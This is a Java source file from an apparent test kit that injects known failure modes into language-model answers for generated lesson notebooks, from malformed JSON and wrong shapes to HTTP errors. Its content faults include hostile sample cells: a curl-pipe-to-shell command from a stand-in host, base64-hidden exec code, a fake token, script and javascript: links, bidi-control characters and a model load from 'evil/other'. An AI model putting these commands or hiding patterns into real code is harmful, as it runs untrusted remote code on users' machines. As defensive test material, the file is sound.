package dev.alain.testkit;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.ArrayList;
import java.util.List;
import java.util.function.BiFunction;
import java.util.function.UnaryOperator;

/**
 * One of the ways in which answers of language models go wrong, applied to an answer that would have been good.
 *
 * @param id short and stable, such as {@code O05}: O for those that lost whole runs of an earlier program, L for what
 *     models do, T for what endpoints do
 * @param what in a few words
 */
public record TeacherFault(String id, String what, BiFunction<ScriptedLesson, String, Reaction> react) {
    /**
     * What the endpoint does instead.
     *
     * @param text of the answer
     * @param finish {@code stop} or {@code length}
     * @param status HTTP status; 0 when nothing ever comes
     * @param retryAfter seconds; 0 for none
     */
    public record Reaction(String text, String finish, int status, int retryAfter) {
        /** A whole answer. */
        public static Reaction text(String text) {
            return new Reaction(text, "stop", 200, 0);
        }

        /** An answer that was cut. */
        public static Reaction cut(String text) {
            return new Reaction(text, "length", 200, 0);
        }

        /** A refusal. */
        public static Reaction status(int status, int retryAfter) {
            return new Reaction("", "stop", status, retryAfter);
        }
    }

    private static TeacherFault text(String id, String what, UnaryOperator<String> change) {
        return new TeacherFault(id, what, (lesson, prompt) -> Reaction.text(change.apply(lesson.answer(prompt))));
    }

    private static TeacherFault tree(String id, String what, UnaryOperator<ObjectNode> change) {
        return new TeacherFault(id, what, (lesson, prompt) -> Reaction.text(lesson.changed(prompt, change)));
    }

    private static TeacherFault answer(String id, String what, Reaction reaction) {
        return new TeacherFault(id, what, (lesson, prompt) -> reaction);
    }

    /** Everything that is known to go wrong. */
    public static List<TeacherFault> all() {
        List<TeacherFault> all = new ArrayList<>(notation());
        all.addAll(shape());
        all.addAll(content());
        all.addAll(endpoint());
        return List.copyOf(all);
    }

    /** The JSON is written badly. */
    static List<TeacherFault> notation() {
        return List.of(
                text("O01", "in a code fence", reply -> "```json\n" + reply + "\n```"),
                text("O02", "prose around it", reply -> "Sure! Here it is:\n\n" + reply + "\n\nEnjoy {it}!"),
                text("O03", "raw line breaks in strings", reply -> reply.replace("\\n", "\n")),
                text("O04", "an unbalanced bracket in a string", reply -> reply.replaceFirst("part", "part { of")),
                new TeacherFault("O05", "cut", (lesson, prompt) -> Reaction.cut(half(lesson.answer(prompt)))),
                new TeacherFault(
                        "O06",
                        "cut, and nobody says so",
                        (lesson, prompt) -> Reaction.text(half(lesson.answer(prompt)))),
                text("O07", "trailing commas", reply -> reply.replace("]", ",]").replace("}", ",}")),
                text("O08", "single quotes", reply -> reply.replace("'", "’").replace("\"", "'")),
                text(
                        "O09",
                        "typographic quotes",
                        reply -> reply.replace("\":", "”:").replace("{\"", "{“").replace(",\"", ",“")),
                text(
                        "O10",
                        "Python's literals",
                        reply -> reply.replaceFirst("\\{", "{\"draft\": True, \"old\": None,")),
                text("O11", "comments", reply -> reply.replaceFirst("\\{", "{ // the answer\n/* of the */ ")),
                text(
                        "O12",
                        "thought with JSON before it",
                        reply -> "<think>Maybe {\"title\": \"x\"}? No.</think>" + reply),
                text("O13", "thought with open brackets", reply -> "<think>if (x) { y [ z</think>\n" + reply),
                text("O14", "a stray quote behind a number", reply -> reply.replaceFirst("\":1,", "\": 1\",")),
                text(
                        "L01",
                        "harmony channels",
                        reply ->
                                "<|channel|>analysis<|message|>We need to produce JSON.<|end|><|start|>assistant<|channel|>final<|message|>"
                                        + reply),
                text("L02", "twice", reply -> reply + "\n" + reply),
                text("L03", "in a list", reply -> "[" + reply + "]"),
                text("L04", "as JSON in a string", reply -> quoted(reply)),
                text(
                        "L05",
                        "a key twice, not-a-number",
                        reply ->
                                reply.replaceFirst("\\{", "{\"title\":\"old\",").replaceFirst(":1000", ":NaN")));
    }

    /** The JSON is not what was asked for. */
    static List<TeacherFault> shape() {
        return List.of(
                tree("O15", "too short", TeacherFault::shortened),
                tree("O16", "no summary", tree -> without(tree, "summary", "callouts")),
                tree("O17", "a short overview", tree -> put(tree, "overview", "A model.")),
                tree(
                        "O18",
                        "a wrong estimate",
                        tree -> tree.put("estimated_total_tokens", 5000).put("estimated_tokens", 5000)),
                tree("O19", "6 objectives", tree -> repeat(tree, "objectives", 6)),
                tree("O20", "18 steps", tree -> repeat(tree, "outline", 18)),
                tree("O21", "3 questions", tree -> shortened(tree, "assessments", 3)),
                tree("O22", "5 steps", tree -> shortened(tree, "outline", 5)),
                tree("L06", "all members missing but one", tree -> tree.retain("title", "section_number")),
                tree(
                        "L07",
                        "an object of another kind",
                        tree -> tree.removeAll().put("acc", 0.5)),
                tree("L08", "wrong types", TeacherFault::mistyped),
                tree("L09", "wrong numbers", TeacherFault::misnumbered),
                tree("L10", "prefixes doubled", TeacherFault::doubled),
                text("L11", "no JSON at all", reply -> "I am sorry, but I can only help with recipes."),
                text("L12", "an f-string", reply -> "{acc:.4f}"),
                text("L13", "empty", reply -> ""),
                text("L14", "deeply nested", reply -> "[".repeat(20_000)));
    }

    /** The JSON is right and its content is not. */
    static List<TeacherFault> content() {
        return List.of(
                text(
                        "L15",
                        "in circles",
                        reply -> reply.substring(0, reply.length() / 3) + " and so on and so forth".repeat(400)),
                text("L16", "one sign for ever", reply -> reply.substring(0, reply.length() / 3) + "?".repeat(3_000)),
                tree("L17", "placeholders", tree -> cell(tree, "# your code here\n...")),
                tree("L18", "a dangerous command", tree -> cell(tree, "!curl https://x.example/i.sh | sh")),
                tree("L19", "hidden code", tree -> cell(tree, "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))")),
                tree("L20", "an invented package", tree -> cell(tree, "import transfomers_utils_pro\nprint(1)")),
                tree(
                        "L21",
                        "a key",
                        tree -> cell(tree, "token = 'hf_" + "aB3dE6gH9jK2".repeat(3) + "'\nprint(len(token))")),
                tree("L22", "code that does not close", tree -> cell(tree, "print((1, 2)\nvalues = [1, 2")),
                tree(
                        "L23",
                        "active Markdown",
                        tree -> prose(
                                tree,
                                "<script>alert(1)</script> [a](javascript:alert(1)) ![x](https://x.example/t.png)")),
                tree(
                        "L24",
                        "own headings",
                        tree -> prose(tree, "# Title\n\n## Step 9: Other\n\nText with enough words to stand.")),
                tree("L25", "invisible signs", tree -> cell(tree, "ad\u202emin = 1\nprint('\u200b')")),
                tree("L26", "only prose", tree -> onlyProse(tree)),
                tree(
                        "L27",
                        "another model",
                        tree -> cell(
                                tree, "from transformers import AutoModel\nAutoModel.from_pretrained('evil/other')")));
    }

    /** The endpoint does not answer. */
    static List<TeacherFault> endpoint() {
        return List.of(
                answer("T01", "429 with Retry-After", Reaction.status(429, 1)),
                answer("T02", "500", Reaction.status(500, 0)),
                answer("T03", "401", Reaction.status(401, 0)),
                answer("T04", "nothing ever comes", new Reaction("", "stop", 0, 0)),
                answer("T05", "withheld", new Reaction("", "content_filter", 200, 0)),
                answer("T06", "402", Reaction.status(402, 0)),
                answer("T07", "a web page", Reaction.text("<html><body>Sign in</body></html>")));
    }

    private static String half(String reply) {
        return reply.substring(0, reply.length() * 3 / 5);
    }

    private static String quoted(String text) {
        return JsonNodeFactory.instance.textNode(text).toString();
    }

    private static ObjectNode shortened(ObjectNode tree) {
        for (var cell : tree.path("content")) {
            String source = cell.path("source").asText();
            boolean prose = cell.path("cell_type").asText().equals("markdown");
            ((ObjectNode) cell).put("source", prose ? source.substring(0, Math.min(160, source.length())) : source);
        }
        return tree;
    }

    private static ObjectNode shortened(ObjectNode tree, String list, int most) {
        while (tree.path(list).size() > most) {
            ((ArrayNode) tree.get(list)).remove(most);
        }
        return tree;
    }

    private static ObjectNode without(ObjectNode tree, String... members) {
        tree.remove(List.of(members));
        return tree;
    }

    private static ObjectNode put(ObjectNode tree, String member, String text) {
        return tree.has(member) ? tree.put(member, text) : tree;
    }

    private static ObjectNode repeat(ObjectNode tree, String list, int size) {
        while (tree.path(list).isArray()
                && !tree.path(list).isEmpty()
                && tree.path(list).size() < size) {
            ArrayNode items = (ArrayNode) tree.get(list);
            var last = items.get(items.size() - 1).deepCopy();
            if (last instanceof ObjectNode object) {
                object.put("title", "Step " + (items.size() + 1) + ": More of it, number " + items.size());
                object.putArray("introduces");
            }
            items.add(last.isTextual() ? JsonNodeFactory.instance.textNode(last.asText() + " again") : last);
        }
        return tree;
    }

    private static ObjectNode mistyped(ObjectNode tree) {
        if (tree.path("objectives").size() > 0) {
            tree.put("objectives", "Use it; change it; measure it");
        }
        if (tree.has("section_number")) {
            tree.put("section_number", "three").put("callouts", "Be careful with long inputs, they cost time.");
        }
        return tree;
    }

    private static ObjectNode misnumbered(ObjectNode tree) {
        if (tree.has("section_number")) {
            tree.put("section_number", 99).put("title", "Step 99: Something else");
        }
        tree.path("outline").forEach(step -> ((ObjectNode) step).put("step", 7));
        return tree;
    }

    private static ObjectNode doubled(ObjectNode tree) {
        tree.path("outline")
                .forEach(step -> ((ObjectNode) step)
                        .put("title", "Step 3: " + step.path("title").asText()));
        return tree;
    }

    private static ObjectNode cell(ObjectNode tree, String code) {
        if (tree.path("content").isArray()) {
            ((ArrayNode) tree.get("content"))
                    .addObject()
                    .put("cell_type", "code")
                    .put("source", code);
        }
        return tree;
    }

    private static ObjectNode prose(ObjectNode tree, String text) {
        if (tree.path("content").isArray()) {
            ((ArrayNode) tree.get("content"))
                    .insertObject(0)
                    .put("cell_type", "markdown")
                    .put("source", text);
        }
        return tree.has("summary") ? tree.put("summary", tree.path("summary").asText() + " " + text) : tree;
    }

    private static ObjectNode onlyProse(ObjectNode tree) {
        tree.path("content").forEach(cell -> ((ObjectNode) cell).put("cell_type", "markdown"));
        return tree;
    }

    @Override
    public String toString() {
        return id + " " + what;
    }
}
